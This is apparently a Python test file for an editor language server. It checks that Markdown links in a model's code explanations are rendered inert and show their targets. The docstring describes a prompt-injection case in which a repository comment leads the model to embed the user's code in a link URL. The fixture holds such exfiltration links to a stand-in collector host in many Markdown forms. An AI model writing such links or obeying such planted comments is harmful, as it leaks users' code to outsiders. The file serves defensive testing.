"""An explanation's links are the model's: led by the code it read (a comment in the
repository), it can word `[the docs](https://host/?d=<the code>)` so that a click sends
the code away. The editor shows an explanation in a Markdown preview and in hovers; there
a link shows only its words, so the document shows it as written, its target in sight
(as `fuse-ls explain` prints it in the terminal)."""

from __future__ import annotations

import asyncio
import random
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

from lsprotocol import types
from markdown_it import MarkdownIt
from markdown_it.token import Token

from fuse_ls.emulator import Emulator
from fuse_ls.safetext import inert_markdown
from tests.server.conftest import script, start_session

LEAK = "https://collector.example/c?d=ZGVmIGxvYWQ"
ANSWER = "\n".join(
    [
        f"It parses with eval(); see [the docs]({LEAK}&inline) and [the guide][g].",
        f'A titled [link]({LEAK}&titled "Python docs"), <{LEAK}&autolink> and <0d@c.example>.',
        # Code spans as CommonMark reads them, not line by line: an escaped backtick opens
        # none, and a span can go on over a line break.
        f"An escaped \\`[tick]({LEAK}&escaped) and a span `over",
        f"two lines` then [after]({LEAK}&multiline) `x`.",
        "Keep `items[0]` and `a < b` as code.",
        "",
        # A backtick in the info string: not a fence, so what follows is prose.
        "```py`",
        f"![beacon]({LEAK}&image) [in a fake fence]({LEAK}&fence)",
        "```",
        "",
        "```python",
        "values[0] = '[x](y)'",
        "```",
        "",
        f"[g]: {LEAK}&reference",
    ]
)


ACTIVE = {"link_open", "image", "html_inline", "html_block"}


def _tokens(markdown: str) -> list[Token]:
    # markdown-it is what VS Code's Markdown preview renders with.
    flat: list[Token] = []
    for token in MarkdownIt("commonmark").parse(markdown):
        flat += [token, *(token.children or ())]
    return flat


def _shown(markdown: str) -> str:
    return "".join(t.content for t in _tokens(markdown) if t.type in ("text", "code_inline"))


async def test_an_explanation_shows_where_each_link_goes(tmp_path: Path) -> None:
    scripted = script()
    scripted["judge"] = {"merge_answer": ANSWER}
    with Emulator(scripted) as emu:
        session, stop = await start_session("visual-studio-code", emu, tmp_path)
        try:
            uri = session.open()
            selection = {"start": {"line": 3, "character": 0}, "end": {"line": 9, "character": 0}}
            result: dict[str, Any] = await session.execute(
                "fuse-ls.explain", {"uri": uri, "range": selection}
            )
            hover = await session.client.text_document_hover_async(
                types.HoverParams(
                    text_document=types.TextDocumentIdentifier(uri=uri),
                    position=types.Position(line=4, character=0),
                )
            )
        finally:
            await stop()
    assert hover is not None and isinstance(hover.contents, types.MarkupContent)
    document = Path(unquote(urlsplit(result["documentUri"]).path))
    on_disk = await asyncio.to_thread(document.read_text, encoding="utf-8")
    for markdown in (result["markdown"], hover.contents.value, on_disk):
        active = [t for t in _tokens(markdown) if t.type in ACTIVE]
        assert not active, [t.attrs for t in active]
        shown = _shown(markdown)
        for where in ("inline", "titled", "autolink", "escaped", "multiline", "image", "fence"):
            assert f"{LEAK}&{where}" in shown, (where, markdown)
        assert f"[g]: {LEAK}&reference" in shown  # the definition is shown, not hidden
        assert "<0d@c.example>" in shown
        assert "[the docs](" in shown and "It parses with eval()" in shown


def test_code_the_parser_sees_is_left_as_written() -> None:
    """Line by line, code spans and fences are found as CommonMark finds them, and only
    the prose around them changes."""
    answer = (
        f"See [the docs]({LEAK}) for `items[0]` and `a < b`, \\`[x]` ``[y]``.\n\n"
        "```python\nvalues[0] = '[x](y)'\n```\n"
    )
    markdown = inert_markdown(answer, keep_links=False)
    assert markdown == (
        f"See \\[the docs]({LEAK}) for `items[0]` and `a < b`, \\`\\[x]` ``[y]``.\n\n"
        "```python\nvalues[0] = '[x](y)'\n```\n"
    )
    assert not [t for t in _tokens(markdown) if t.type == "link_open"]


PIECES = ["[", "]", "(", ")", "!", "<", ">", "`", "```", "~~~", "\\", "\n", "\n\n", " ", "    "]
PIECES += [
    "> ",
    "- ",
    "a",
    "img",
    "/",
    ":",
    "@x.y",
    "0",
    "&",
    ";",
    '"',
    "http://h/",
    "![",
    "](",
    "\\`",
]


def test_no_arrangement_of_markdown_punctuation_gets_a_link_or_image_through() -> None:
    """Random texts of the characters links, images, HTML and code are made of (seeded:
    the same texts each run); the CommonMark parser finds nothing active in any."""
    rnd = random.Random(8)
    for _ in range(2000):
        text = "".join(rnd.choice(PIECES) for _ in range(rnd.randint(1, 30)))
        markdown = inert_markdown(text, keep_links=False)
        active = [t.type for t in _tokens(markdown) if t.type in ACTIVE]
        assert not active, (text, markdown, active)
